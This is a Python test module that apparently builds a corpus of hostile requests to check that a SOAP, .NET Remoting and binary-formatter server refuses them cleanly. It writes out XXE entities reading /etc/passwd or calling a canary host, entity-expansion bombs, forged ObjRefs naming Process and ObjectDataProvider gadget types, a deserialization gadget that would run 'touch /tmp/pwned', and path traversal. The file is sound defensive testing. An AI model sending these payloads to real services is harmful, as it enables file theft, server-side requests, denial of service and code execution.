"""The hostile-request corpus: one table of requests an attacker (or a broken peer) could send.

Each :class:`Case` is a request (method, path, headers, body) and what must come back: the HTTP statuses the
protocol allows and the kind of reply (a Remoting SOAP fault, a document/literal SOAP 1.1 or 1.2 fault, a
binary exception reply, or any HTTP error body). :func:`corpus` builds the table for a given *canary*
address (``127.0.0.1:PORT``): every URL an attacker plants (external entities, hrefs, schema locations,
forged ObjRefs) points at it, and the test's listener there must never see a connection.

To add a case, add a line to one of the ``_..._cases`` functions. ``REFUSED`` marks what strict SOAP
processing and the limits (issue 13) refuse (lines saying ``# strict`` or ``# limits``); ``FAULT_OR_OK`` the
cases a server may also answer, where only the clean answer is tested (and binary calls, whose hostile
variants may reach the method).
"""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

from examples.interop import InteropService
from examples.remoting_samples import ICounter, IFactory
from soap import (
    BINARY_CONTENT_TYPE,
    DEFAULT_LIMITS,
    DEFAULT_REGISTRY,
    SOAP11,
    SOAP12,
    BinaryFormatter,
    MethodCall,
    ObjRef,
    RemotingSoapFormatter,
    WireType,
    wire_type,
    write_literal_call,
)
from soap._nrbf_writer import lps
from wsdl import contract_of

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
SOAP_DIR = FIXTURES / "mono_soap"
BINARY_DIR = FIXTURES / "mono_binary"

#: what a reply must be: a Remoting SOAP fault, a literal SOAP 1.1 / 1.2 fault, a binary exception reply, or
#: any body at all (HTTP-level refusals: 405, 400 from uvicorn itself)
SOAP_FAULT, LITERAL11, LITERAL12, BINARY, HTTP = "soap", "literal11", "literal12", "binary", "http"

FAULT = frozenset({500})  # SOAP 1.1 (both dialects) and .NET's binary channel answer a fault with 500
FAULT_OR_OK = frozenset({200, 500})  # accepted or refused: only a clean answer is required
REFUSED = frozenset({400, 500})  # refused by strict SOAP / the limits (SOAP 1.2 Sender faults are 400)
TOO_LARGE = frozenset({413})
SOAP12_SENDER = frozenset({400, 500})  # SOAP 1.2: Sender faults are 400, Receiver 500

SOAP_HEADERS = {"content-type": 'text/xml; charset="utf-8"', "soapaction": '""'}
BINARY_HEADERS = {"content-type": BINARY_CONTENT_TYPE}
SOAP12_HEADERS = {"content-type": "application/soap+xml; charset=utf-8"}


@dataclass(frozen=True)
class Case:
    name: str
    path: str
    body: bytes
    reply: str  # SOAP_FAULT, LITERAL11, LITERAL12, BINARY or HTTP
    statuses: frozenset[int] = FAULT
    method: str = "POST"
    headers: dict[str, str] = field(default_factory=lambda: dict(SOAP_HEADERS))
    #: a successful reply is acceptable too (for binary, whose faults come with 200, the status cannot say)
    may_succeed: bool = False


# ------------------------------------------------------------------ the good requests everything starts from

HELLO = (SOAP_DIR / "001_HelloMethod.request.xml").read_bytes()
ECHO = (SOAP_DIR / "014_Echo.request.xml").read_bytes()
ECHO_MORE = (SOAP_DIR / "017_EchoMore.request.xml").read_bytes()
REVERSE = (SOAP_DIR / "018_Reverse.request.xml").read_bytes()
GET_PERSON = (SOAP_DIR / "021_GetPerson.request.xml").read_bytes()
BIRTHDAY = (SOAP_DIR / "022_Birthday.request.xml").read_bytes()
BIN_HELLO = (BINARY_DIR / "001_HelloMethod.request.bin").read_bytes()
BIN_ECHO = (BINARY_DIR / "014_Echo.request.bin").read_bytes()
BIN_BIRTHDAY = (BINARY_DIR / "022_Birthday.request.bin").read_bytes()
BIN_REVERSE = (BINARY_DIR / "018_Reverse.request.bin").read_bytes()

INTEROP = contract_of(InteropService)


def literal_call(operation: str, version: str = "1.1", **args: object) -> bytes:
    op = INTEROP.operations[operation]
    types = [p.wire for p in op.parameters]
    call = MethodCall(op.name, "urn:interop", list(args.values()), list(args), types)
    return write_literal_call(call, SOAP11 if version == "1.1" else SOAP12, DEFAULT_REGISTRY)


LITERAL_ADD = literal_call("add", a=1, b=2)
LITERAL_REVERSE = literal_call("reverse", items=[1, 2, 3])
LITERAL12_ADD = literal_call("add", "1.2", a=1, b=2)


def swap(data: bytes, old: bytes, new: bytes) -> bytes:
    """``data`` with the first ``old`` replaced (which must be there: a seed that changed fails loudly)."""
    assert old in data, old
    return data.replace(old, new, 1)


class _Forger:
    """Writes a chosen ObjRef wherever a by-reference argument goes."""

    def __init__(self, ref: ObjRef) -> None:
        self.ref = ref

    def marshal(self, value: object) -> ObjRef | None:
        return self.ref if value is self else None

    def unmarshal(self, ref: ObjRef, declared: WireType) -> object:
        raise AssertionError("the corpus only writes")


FACTORY_NS = "http://schemas.microsoft.com/clr/nsassem/RemotingPeer.IFactory/PeerShared"
COUNTER = wire_type(ICounter | None)


def forged_describe(ref: ObjRef, binary: bool) -> bytes:
    """``FactoryService.Describe(counter)`` with ``counter`` a forged ObjRef."""
    forger = _Forger(ref)
    if binary:
        return BinaryFormatter().write_call("Describe", "RemotingPeer.IFactory, PeerShared", [forger], [COUNTER],
                                            forger)
    call = MethodCall("Describe", FACTORY_NS, [forger], ["counter"], [COUNTER])
    return RemotingSoapFormatter().write_call(call, forger)


def _objrefs(canary: str) -> Iterator[tuple[str, ObjRef]]:
    counter = "RemotingPeer.ClientActivatedObject, PeerServer"
    iface = [f"{c.__module__}.{c.__qualname__}" for c in (IFactory,)]
    yield "objref_other_host", ObjRef("/evil.rem", counter, [f"http://{canary}"], iface)
    yield "objref_tcp_other_host", ObjRef("/evil.rem", counter, [f"tcp://{canary}"], iface)
    yield "objref_https_other_host", ObjRef("/evil.rem", counter, [f"https://{canary}"], iface)
    yield "objref_process_type", ObjRef("/evil.rem", "System.Diagnostics.Process, System", [f"http://{canary}"])
    yield "objref_gadget_type", ObjRef(
        "/evil.rem", "System.Windows.Data.ObjectDataProvider, PresentationFramework", [f"http://{canary}"])
    yield "objref_no_channel", ObjRef("/evil.rem", counter, [])
    yield "objref_file_url", ObjRef("/etc/passwd", counter, ["file:///"])


# ------------------------------------------------------------------ Remoting SOAP (the rpc/encoded dialect)


def _remoting_cases(canary: str) -> Iterator[Case]:
    def soap(name: str, body: bytes, statuses: frozenset[int] = FAULT, path: str = "/SingleCallService.rem",
             headers: dict[str, str] | None = None) -> Case:
        return Case(name, path, body, SOAP_FAULT, statuses, headers=headers or dict(SOAP_HEADERS))

    name_at = b">Alice<"
    # XXE and DTDs
    yield soap("xxe_file", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
               + swap(HELLO, name_at, b">&e;<"), path="/SayHello.soap")
    yield soap("xxe_http", b'<!DOCTYPE x [<!ENTITY e SYSTEM "http://%s/xxe">]>' % canary.encode()
               + swap(HELLO, name_at, b">&e;<"), path="/SayHello.soap")
    yield soap("xxe_parameter_entity",
               b'<!DOCTYPE x [<!ENTITY %% p SYSTEM "http://%s/p.dtd"> %%p;]>' % canary.encode() + HELLO,
               path="/SayHello.soap")
    yield soap("dtd_external_subset", b'<!DOCTYPE x SYSTEM "http://%s/x.dtd">' % canary.encode() + HELLO,
               path="/SayHello.soap")
    yield soap("dtd_public_id", b'<!DOCTYPE x PUBLIC "-//X//EN" "http://%s/x.dtd">' % canary.encode() + HELLO,
               path="/SayHello.soap")
    yield soap("dtd_internal_only", b"<!DOCTYPE SOAP-ENV:Envelope []>" + HELLO, path="/SayHello.soap")
    for codec in ("utf-16", "utf-16-be", "utf-32"):
        prolog = f'<?xml version="1.0" encoding="{codec.upper()}"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://{canary}/u">]>'
        yield soap(f"xxe_{codec}", (prolog + swap(HELLO, name_at, b">&e;<").decode()).encode(codec),
                   path="/SayHello.soap")
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (i, b"&l%d;" % (i - 1) * 10) for i in range(1, 10))
    yield soap("billion_laughs", b'<!DOCTYPE x [<!ENTITY l0 "lol">' + laughs + b"]>"
               + swap(HELLO, name_at, b">&l9;<"), path="/SayHello.soap")
    yield soap("quadratic_blowup", b'<!DOCTYPE x [<!ENTITY a "' + b"A" * 50_000 + b'">]>'
               + swap(HELLO, name_at, b">" + b"&a;" * 20_000 + b"<"), path="/SayHello.soap")
    yield soap("xinclude", swap(HELLO, name_at, b'><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                                b'href="http://%s/xi" parse="text"/><' % canary.encode()),
               FAULT_OR_OK, path="/SayHello.soap")
    yield soap("schema_location", swap(HELLO, b"<SOAP-ENV:Body>", b'<SOAP-ENV:Body xsi:schemaLocation="urn:x '
                                       b'http://%s/x.xsd">' % canary.encode()), FAULT_OR_OK, path="/SayHello.soap")
    yield soap("undefined_entity", swap(HELLO, name_at, b">&nope;<"), path="/SayHello.soap")
    yield soap("char_ref_out_of_range", swap(HELLO, name_at, b">&#x110000;&#0;<"), path="/SayHello.soap")
    # processing instructions  # strict: refused
    yield soap("pi_stylesheet", b'<?xml-stylesheet type="text/xsl" href="http://%s/x.xsl"?>' % canary.encode()
               + HELLO, REFUSED, path="/SayHello.soap")
    yield soap("pi_in_body", swap(HELLO, name_at, b"><?evil payload?>Alice<"), REFUSED, path="/SayHello.soap")
    # nesting, size, counts
    deep = b"<x>" * 100 + b"</x>" * 100
    yield soap("deep_nesting_100", swap(GET_PERSON, b"<age", b"<deep>" + deep + b"</deep><age"))
    yield soap("deep_nesting_100000", swap(HELLO, name_at, b">" + b"<x>" * 100_000 + b"</x>" * 100_000 + b"<"),
               path="/SayHello.soap")
    yield soap("deep_unclosed_nesting", swap(HELLO, name_at, b">" + b"<x>" * 200_000), path="/SayHello.soap")
    yield soap("too_many_elements", swap(REVERSE, b"<item>1</item>", b"<item>1</item>" * 200_001))
    yield soap("too_many_attributes", swap(HELLO, b"<name", b"<name " + b" ".join(
        b'a%d="x"' % i for i in range(100_000))), REFUSED, path="/SayHello.soap")  # limits: refused
    yield soap("huge_attribute", swap(HELLO, b"<name", b'<name junk="' + b"A" * 3_000_000 + b'"'),
               REFUSED, path="/SayHello.soap")  # limits: refused
    yield soap("huge_element_name", swap(HELLO, name_at, b"><" + b"n" * 3_000_000 + b"/><"),
               FAULT_OR_OK, path="/SayHello.soap")
    yield soap("huge_string_within_max_bytes", swap(HELLO, name_at, b">" + b"A" * 3_500_000 + b"<"),
               frozenset({200, 500}), path="/SayHello.soap")  # a legitimate big argument today
    yield soap("body_over_max_bytes", swap(HELLO, name_at, b">" + b"A" * (DEFAULT_LIMITS.max_bytes + 1) + b"<"),
               TOO_LARGE, path="/SayHello.soap")
    for length in (b"2147483647", b"1000001", b"-1", b"99999999999999999999"):
        yield soap(f"array_declared_{length.decode()}", swap(REVERSE, b"xsd:int[5]", b"xsd:int[" + length + b"]"),
                   REFUSED)  # strict: a valid length within the limits, no fewer than the items sent
    yield soap("array_2d_huge", swap(REVERSE, b"xsd:int[5]", b"xsd:int[65536,65536]"), REFUSED)  # limits
    yield soap("array_more_items_than_declared", swap(REVERSE, b"xsd:int[5]", b"xsd:int[4]"), REFUSED)  # strict
    yield soap("array_fewer_items_than_declared", swap(REVERSE, b"xsd:int[5]", b"xsd:int[6]"),
               frozenset({200}))  # padded with 0, as Mono does
    yield soap("array_offset_huge", swap(REVERSE, b'arrayType="xsd:int[5]"',
                                         b'arrayType="xsd:int[5]" SOAP-ENC:offset="[2147483646]"'), FAULT_OR_OK)
    yield soap("array_position_huge", swap(REVERSE, b"<item>1</item>",
                                           b'<item SOAP-ENC:position="[999999999]">1</item>'), FAULT_OR_OK)
    # hostile xsi:types
    yield soap("xsi_type_process", swap(HELLO, b'<name ', b'<name xmlns:a1="http://schemas.microsoft.com/clr/ns/'
                                        b'System.Diagnostics" xsi:type="a1:Process" '), REFUSED,
               path="/SayHello.soap")  # strict: a type that is not the declared one is refused
    yield soap("xsi_type_unbound_prefix", swap(HELLO, b"<name ", b'<name xsi:type="nope:Evil" '), REFUSED,
               path="/SayHello.soap")  # strict: refused
    yield soap("xsi_type_python_gadget", swap(BIRTHDAY, b"<p href", b'<p xmlns:a9="http://schemas.microsoft.com/'
                                              b'clr/nsassem/os/posix" xsi:type="a9:system" href'), REFUSED)
    yield soap("xsi_type_array_for_int", swap(ECHO, b'xsi:type="xsd:int"', b'xsi:type="SOAP-ENC:Array"'),
               REFUSED)
    yield soap("xsi_type_base64_for_string", swap(HELLO, b"<name ", b'<name xsi:type="xsd:base64Binary" '),
               REFUSED, path="/SayHello.soap")
    yield soap("unregistered_class_element", swap(
        BIRTHDAY, b"<a1:Person ", b'<a1:Person xmlns:a1="http://schemas.microsoft.com/clr/nsassem/'
        b'System.Diagnostics/System" ').replace(b"a1:Person", b"a1:Process"))
    # numbers against the declared .NET types  # strict: every one of these is a Client fault
    for text in (b"2147483648", b"-2147483649", b"NaN", b"1e3", b"", b" ", b"0x10", b"9" * 5000, b"+-1",
                 b"\xd9\xa3"):  # (the last: an Arabic-Indic digit three)
        yield soap(f"int32_{text[:12].decode(errors='replace')!r}", swap(ECHO, b">42<", b">" + text + b"<"),
                   REFUSED)
    for text in (b"1e400", b"-1e400", b"NaNx", b"1" * 5000 + b".5", b"0x1p3"):
        yield soap(f"double_{text[:12].decode()!r}", swap(ECHO, b">3.1415926535897931<", b">" + text + b"<"),
                   REFUSED)
    for text in (b"40000", b"-32769"):
        yield soap(f"int16_{text.decode()}", swap(ECHO_MORE, b">-32768<", b">" + text + b"<"))
    for text in (b"yes", b"2", b""):
        yield soap(f"boolean_{text.decode()!r}", swap(ECHO, b">true<", b">" + text + b"<"), REFUSED)
    for text in (b"9999-99-99T99:99:99", b"0000-01-01T00:00:00", b"10000-01-01T00:00:00Z",
                 b"2024-02-29T13:45:30.12345678901234567890+99:00"):
        yield soap(f"datetime_{text[:10].decode()}", swap(ECHO, b">2024-02-29T13:45:30.1234567+00:00<",
                                                          b">" + text + b"<"), REFUSED)
    # hrefs
    yield soap("href_dangling", swap(REVERSE, b'href="#ref-2"', b'href="#ref-99"'))
    yield soap("href_cyclic", swap(REVERSE, b"<item>1</item>", b'<item href="#ref-2"/>'))
    yield soap("href_self", swap(REVERSE, b'<a href="#ref-2" />', b'<a id="ref-9" href="#ref-9" />'), REFUSED)
    yield soap("href_external_http", swap(REVERSE, b'href="#ref-2"', b'href="http://%s/a.xml#ref-2"'
                                          % canary.encode()))
    yield soap("href_external_file", swap(REVERSE, b'href="#ref-2"', b'href="file:///etc/passwd"'))
    yield soap("href_to_the_call", swap(REVERSE, b'href="#ref-2"', b'href="#ref-1"'))
    chain = b"".join(b'<SOAP-ENC:Array id="c%d" SOAP-ENC:arrayType="xsd:anyType[1]"><item href="#c%d"/>'
                     b"</SOAP-ENC:Array>" % (n, n + 1) for n in range(200))
    yield soap("href_long_chain", swap(BIRTHDAY, b"</SOAP-ENV:Body>", chain + b"</SOAP-ENV:Body>"), REFUSED)
    yield soap("duplicate_ids", swap(REVERSE, b"<item>1</item>", b'<item id="ref-2">1</item>'))
    # forged ObjRefs (type filter Low refuses them; a callback would connect to the canary)
    for name, ref in _objrefs(canary):
        yield soap(f"soap_{name}", forged_describe(ref, binary=False), path="/FactoryService.rem")
    # envelope structure
    yield soap("must_understand_header", swap(HELLO, b"<SOAP-ENV:Body>", b'<SOAP-ENV:Header><h:Evil xmlns:h="urn:x" '
                                              b'SOAP-ENV:mustUnderstand="1">x</h:Evil></SOAP-ENV:Header>'
                                              b"<SOAP-ENV:Body>"), REFUSED, path="/SayHello.soap")  # strict
    yield soap("two_bodies", swap(HELLO, b"</SOAP-ENV:Envelope>", b"<SOAP-ENV:Body/></SOAP-ENV:Envelope>"),
               REFUSED, path="/SayHello.soap")  # strict: refused
    inner = HELLO[HELLO.index(b"<i2:HelloMethod"):HELLO.index(b"</SOAP-ENV:Body>")]
    yield soap("two_calls_in_body", swap(HELLO, b"</SOAP-ENV:Body>", inner.replace(b'"ref-1"', b'"ref-7"')
                                         + b"</SOAP-ENV:Body>"), REFUSED, path="/SayHello.soap")  # strict
    yield soap("empty_body_element", b'<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/">'
               b"<SOAP-ENV:Body/></SOAP-ENV:Envelope>", path="/SayHello.soap")
    yield soap("no_body", b'<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/"/>',
               path="/SayHello.soap")
    yield soap("wrong_root", b"<Envelope><Body/></Envelope>", path="/SayHello.soap")
    yield soap("unknown_method", swap(swap(HELLO, b"i2:HelloMethod ", b"i2:Nope "), b"</i2:HelloMethod>",
                                      b"</i2:Nope>"), path="/SayHello.soap")
    yield soap("private_method", swap(swap(HELLO, b"i2:HelloMethod ", b"i2:__init__ "), b"</i2:HelloMethod>",
                                      b"</i2:__init__>"), path="/SayHello.soap")
    yield soap("dunder_class_method", swap(swap(HELLO, b"i2:HelloMethod ", b"i2:__class__ "), b"</i2:HelloMethod>",
                                           b"</i2:__class__>"), path="/SayHello.soap")
    yield soap("unknown_uri", HELLO, path="/NoSuchService.rem")
    yield soap("uri_traversal", HELLO, path="/../../etc/passwd")
    # bytes and encodings
    yield soap("invalid_utf8", swap(HELLO, name_at, b">Al\xff\xfece<"), path="/SayHello.soap")
    yield soap("overlong_utf8", swap(HELLO, name_at, b">\xc0\xbc<"), path="/SayHello.soap")
    yield soap("utf8_surrogate", swap(HELLO, name_at, b">\xed\xa0\x80<"), path="/SayHello.soap")
    yield soap("nul_byte", swap(HELLO, name_at, b">Al\x00ice<"), path="/SayHello.soap")
    yield soap("unknown_encoding", b'<?xml version="1.0" encoding="x-evil-42"?>' + HELLO, path="/SayHello.soap")
    yield soap("utf7_encoding", b'<?xml version="1.0" encoding="UTF-7"?>' + HELLO, FAULT_OR_OK,
               path="/SayHello.soap")
    yield soap("ebcdic_encoding", b'<?xml version="1.0" encoding="IBM037"?>'.decode().encode("cp037")
               + HELLO.decode().encode("cp037"), FAULT_OR_OK, path="/SayHello.soap")
    yield soap("bom_mismatch", b"\xff\xfe" + HELLO, path="/SayHello.soap")
    yield soap("charset_header_mismatch", HELLO.decode().encode("utf-16"), FAULT_OR_OK, path="/SayHello.soap",
               headers={**SOAP_HEADERS, "content-type": "text/xml; charset=iso-8859-1"})
    for cut in (1, 40, len(HELLO) // 2, len(HELLO) - 3):
        yield soap(f"truncated_at_{cut}", HELLO[:cut], path="/SayHello.soap")
    yield soap("empty", b"", path="/SayHello.soap")
    yield soap("whitespace_only", b" \r\n\t" * 1000, path="/SayHello.soap")
    yield soap("binary_garbage_as_xml", bytes(range(256)) * 4, path="/SayHello.soap")


# ------------------------------------------------------------------ document/literal (SOAP 1.1 and 1.2)


def _literal_cases(canary: str) -> Iterator[Case]:
    def lit(name: str, body: bytes, statuses: frozenset[int] = FAULT, version: str = "1.1") -> Case:
        if version == "1.2":
            return Case(name, "/InteropService.soap", body, LITERAL12, statuses | SOAP12_SENDER,
                        headers=dict(SOAP12_HEADERS))
        return Case(name, "/InteropService.soap", body, LITERAL11, statuses)

    add_a = b"<tns:a>1</tns:a>"
    assert add_a in LITERAL_ADD, LITERAL_ADD
    for version, base in (("1.1", LITERAL_ADD), ("1.2", LITERAL12_ADD)):
        v = version.replace(".", "")
        yield lit(f"literal{v}_xxe", b'<!DOCTYPE x [<!ENTITY e SYSTEM "http://%s/l">]>' % canary.encode()
                  + swap(base, add_a, b"<tns:a>&e;</tns:a>"), version=version)
        yield lit(f"literal{v}_pi", swap(base, b"<soap:Body>", b"<?evil x?><soap:Body>"), REFUSED,
                  version=version)  # strict: refused
        yield lit(f"literal{v}_int_overflow", swap(base, add_a, b"<tns:a>2147483648</tns:a>"), REFUSED,
                  version=version)  # strict: Int32
        yield lit(f"literal{v}_int_nan", swap(base, add_a, b"<tns:a>NaN</tns:a>"), version=version)
        yield lit(f"literal{v}_int_empty", swap(base, add_a, b"<tns:a></tns:a>"), REFUSED, version=version)
        yield lit(f"literal{v}_deep", swap(base, add_a, b"<tns:a>" + b"<x>" * 1000 + b"</x>" * 1000 + b"</tns:a>"),
                  version=version)
        yield lit(f"literal{v}_truncated", base[: len(base) // 2], version=version)
        yield lit(f"literal{v}_invalid_utf8", swap(base, add_a, b"<tns:a>\xff</tns:a>"), version=version)
        yield lit(f"literal{v}_unknown_operation", base.replace(b"tns:add", b"tns:nope"), version=version)
        yield lit(f"literal{v}_xsi_type_gadget", swap(base, add_a, b'<tns:a xmlns:xsi="http://www.w3.org/2001/'
                                                       b'XMLSchema-instance" xmlns:p="urn:os" xsi:type="p:system">'
                                                       b"1</tns:a>"), REFUSED, version=version)  # strict
        yield lit(f"literal{v}_must_understand", _with_header(base, version), REFUSED, version=version)
        yield lit(f"literal{v}_two_bodies", _two_bodies(base), REFUSED, version=version)  # strict
    yield lit("literal_wrong_envelope_version", LITERAL12_ADD, REFUSED)  # strict: 1.2 sent as text/xml
    yield Case("literal11_sent_as_soap12", "/InteropService.soap", LITERAL_ADD, LITERAL11, REFUSED,
               headers=dict(SOAP12_HEADERS))  # strict: VersionMismatch, in SOAP 1.1's format (SOAP 1.2 appendix A)
    yield lit("literal_big_array", swap(LITERAL_REVERSE, b"<tns:int>1</tns:int>", b"<tns:int>1</tns:int>" * 150_000),
              FAULT_OR_OK)  # limits: the sum over a message (issue 13 item 6)
    yield lit("literal_element_flood", swap(LITERAL_ADD, add_a, add_a + b"<z/>" * 300_000))
    yield lit("literal_href", swap(LITERAL_ADD, add_a, b'<tns:a href="http://%s/h"/>' % canary.encode()))


def _with_header(envelope: bytes, version: str) -> bytes:
    prefix = b"soap"  # write_literal_call's envelope prefix
    ns = b"http://schemas.xmlsoap.org/soap/envelope/" if version == "1.1" else b"http://www.w3.org/2003/05/soap-envelope"
    understand = b"1" if version == "1.1" else b"true"
    header = b'<%s:Header><h:Evil xmlns:h="urn:x" xmlns:e="%s" e:mustUnderstand="%s">x</h:Evil></%s:Header>' % (
        prefix, ns, understand, prefix)
    at = envelope.index(b"<%s:Body" % prefix)
    return envelope[:at] + header + envelope[at:]


def _two_bodies(envelope: bytes) -> bytes:
    prefix = b"soap"
    end = b"</%s:Envelope>" % prefix
    return swap(envelope, end, b"<%s:Body/>" % prefix + end)


# ------------------------------------------------------------------ MS-NRBF (the binary formatter)

I32 = struct.Struct("<i")


def i32(n: int) -> bytes:
    return I32.pack(n)


def nrbf_header(root_id: int = 1, header_id: int = -1) -> bytes:
    return bytes([0]) + struct.pack("<iiii", root_id, header_id, 1, 0)


def method_call(flags: int, method: str = "HelloMethod", type_name: str = "RemotingPeer.IHello, PeerShared") -> bytes:
    return bytes([21]) + i32(flags) + bytes([18]) + lps(method) + bytes([18]) + lps(type_name)


def call_with(records: bytes, *args: bytes, flags: int = 0x14, **call: str) -> bytes:
    """An ArgsIsArray|NoContext call whose call array (object 1) holds ``args``, then ``records``."""
    items = args or (bytes([9]) + i32(2),)
    array = bytes([16]) + i32(1) + i32(len(items)) + b"".join(items)
    return nrbf_header() + method_call(flags, **call) + array + records + bytes([11])


def _binary_cases(canary: str) -> Iterator[Case]:
    def nrbf(name: str, body: bytes, statuses: frozenset[int] = FAULT, path: str = "/SayHello.rem") -> Case:
        # .NET answers a binary call's exception with 200 and the exception in the return message
        http = frozenset({200}) if statuses in (FAULT, FAULT_OR_OK) else statuses
        return Case(name, path, body, BINARY, http, headers=dict(BINARY_HEADERS), may_succeed=statuses == FAULT_OR_OK)

    string2 = bytes([6]) + i32(2) + lps("Alice")
    for cut in (0, 1, 10, 17, len(BIN_HELLO) // 2, len(BIN_HELLO) - 1):
        yield nrbf(f"nrbf_truncated_at_{cut}", BIN_HELLO[:cut])
    yield nrbf("nrbf_header_only", nrbf_header())
    yield nrbf("nrbf_no_end_record", BIN_HELLO[:-1] + bytes([10]))
    yield nrbf("nrbf_trailing_garbage", BIN_HELLO + b"\x00" * 64, FAULT_OR_OK)  # strict: refused
    # every record type (0-22, MS-NRBF 2.1.2.1) and a few that do not exist, with nothing after the type byte
    # (each a truncated record), then as a call argument followed by junk
    for kind in (*range(23), 23, 0x7F, 0xFF):
        if kind != 11:  # (MessageEnd right away is a message without a call: covered by header_only)
            yield nrbf(f"nrbf_record_{kind}_truncated", nrbf_header() + bytes([kind]))
        yield nrbf(f"nrbf_record_{kind}_junk", call_with(bytes([kind]) + b"\xff" * 24), FAULT_OR_OK)
    for length in (0x7FFFFFFF, DEFAULT_LIMITS.max_array_length + 1, -1):
        yield nrbf(f"nrbf_byte_array_{length}", call_with(bytes([15]) + i32(2) + i32(length) + bytes([2]) + b"x" * 8))
        yield nrbf(f"nrbf_object_array_{length}", call_with(bytes([16]) + i32(2) + i32(length) + b"\x0a" * 8))
        yield nrbf(f"nrbf_string_array_{length}", call_with(bytes([17]) + i32(2) + i32(length) + b"\x0a" * 8))
        yield nrbf(f"nrbf_binary_array_{length}", call_with(bytes([7]) + i32(2) + bytes([0]) + i32(1) + i32(length)
                                                            + bytes([2]) + b"\x0a" * 8))
        yield nrbf(f"nrbf_member_count_{length}", call_with(bytes([4]) + i32(2) + lps("X") + i32(length)
                                                            + lps("a") * 4))
        yield nrbf(f"nrbf_null_multiple_{length}", call_with(bytes([16]) + i32(2) + i32(4) + bytes([14])
                                                             + i32(length)))
        yield nrbf(f"nrbf_rank_{length}", call_with(bytes([7]) + i32(2) + bytes([2]) + i32(length) + i32(1)
                                                    + bytes([2]) + b"\x0a" * 8))
    yield nrbf("nrbf_string_length_2gb", call_with(bytes([6]) + i32(2) + b"\xff\xff\xff\xff\x07" + b"x" * 32))
    yield nrbf("nrbf_string_length_prefix_6_bytes", call_with(bytes([6]) + i32(2) + b"\xff" * 6 + b"\x01x"))
    yield nrbf("nrbf_string_invalid_utf8", call_with(bytes([6]) + i32(2) + b"\x04\xff\xfe\xfd\xfc"), FAULT_OR_OK)
    # references
    yield nrbf("nrbf_dangling_ref", call_with(b"", bytes([9]) + i32(99)))
    yield nrbf("nrbf_cyclic_array", call_with(bytes([16]) + i32(2) + i32(1) + bytes([9]) + i32(2)), FAULT_OR_OK)
    yield nrbf("nrbf_duplicate_ids", call_with(string2 + string2))
    yield nrbf("nrbf_id_clashes_with_call_array", call_with(bytes([6]) + i32(1) + lps("x")))
    yield nrbf("nrbf_header_names_missing_root", nrbf_header(5, -1) + method_call(0x14) + bytes([11]))
    yield nrbf("nrbf_undeclared_library", call_with(bytes([5]) + i32(2) + lps("X.Y") + i32(0) + i32(77)))
    yield nrbf("nrbf_class_with_unknown_metadata", call_with(bytes([1]) + i32(2) + i32(1234)))
    nested = b"".join(bytes([16]) + i32(n) + i32(1) for n in range(2, 100_002)) + bytes([10])
    yield nrbf("nrbf_deep_arrays", call_with(nested))
    many = b"".join(bytes([6]) + i32(10 + n) + lps("s") for n in range(DEFAULT_LIMITS.max_elements + 10))
    yield nrbf("nrbf_too_many_records", call_with(string2 + many))
    # MessageFlags: contradictions and types that are not the service's  # strict: each a binary exception
    for flags in (0x0, 0x3, 0x6, 0x12 | 0x14, 0x14 | 0x40, 0x14 | 0x8000, 0x7FFFFFFF, -1):
        yield nrbf(f"nrbf_flags_{flags & 0xFFFFFFFF:#x}", call_with(string2, flags=flags), FAULT_OR_OK)
    yield nrbf("nrbf_other_type", call_with(string2, method="Start", type_name="System.Diagnostics.Process, System"))
    yield nrbf("nrbf_other_contract_same_method", call_with(
        string2, type_name="System.Diagnostics.Process, System"), FAULT_OR_OK)  # strict: "cannot cast"
    yield nrbf("nrbf_unknown_method", call_with(string2, method="Nope"))
    yield nrbf("nrbf_dunder_method", call_with(string2, method="__reduce__"))
    yield nrbf("nrbf_gadget_class_argument", call_with(
        bytes([12]) + i32(50) + lps("posix") + bytes([5]) + i32(2) + lps("os.system") + i32(1) + lps("command")
        + bytes([1]) + i32(50) + bytes([6]) + i32(3) + lps("touch /tmp/pwned"), method="Birthday",
        type_name="RemotingPeer.IRemoteService, PeerShared"), path="/SingleCallService.rem")
    yield nrbf("nrbf_wrong_arg_type", call_with(bytes([16]) + i32(2) + i32(0), method="HelloMethod"))
    for name, ref in _objrefs(canary):
        yield nrbf(f"nrbf_{name}", forged_describe(ref, binary=True), path="/FactoryService.rem")
    for name, data in (("echo", BIN_ECHO), ("birthday", BIN_BIRTHDAY), ("reverse", BIN_REVERSE)):
        for cut in (len(data) // 3, 2 * len(data) // 3):
            yield nrbf(f"nrbf_{name}_truncated_{cut}", data[:cut], path="/SingleCallService.rem")
        yield nrbf(f"nrbf_{name}_bytes_flipped", bytes(b ^ 0x5A if i % 7 == 3 else b for i, b in enumerate(data)),
                   FAULT_OR_OK, path="/SingleCallService.rem")
    yield nrbf("nrbf_soap_body_as_binary", HELLO)
    yield nrbf("nrbf_over_max_bytes", BIN_HELLO + b"\x00" * DEFAULT_LIMITS.max_bytes, TOO_LARGE)


# ------------------------------------------------------------------ HTTP itself


def _http_cases(canary: str) -> Iterator[Case]:
    for method in ("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "CONNECT"):
        yield Case(f"method_{method}", "/SayHello.soap", HELLO, HTTP, frozenset({405}), method=method)
    for content_type in ("application/json", "multipart/form-data; boundary=x", "text/html",
                         "application/x-www-form-urlencoded", "text/xml; charset=x-evil", "", ";;;", "*/*"):
        yield Case(f"content_type_{content_type[:20]!r}", "/SayHello.soap", HELLO, SOAP_FAULT,
                   frozenset({200, 415, 500}), headers={"content-type": content_type})  # strict: 415
    yield Case("binary_body_as_soap", "/SayHello.rem", BIN_HELLO, SOAP_FAULT)
    yield Case("soap_body_as_binary_on_soap_uri", "/SayHello.soap", HELLO, BINARY, frozenset({200, 415, 500}),
               headers=dict(BINARY_HEADERS))
    yield Case("get_wsdl_traversal", "/SayHello.soap?wsdl=../../etc/passwd", b"", HTTP,
               frozenset({200, 400, 404}), method="GET")
    yield Case("get_unknown_path", "/etc/passwd", b"", HTTP, frozenset({404}), method="GET")
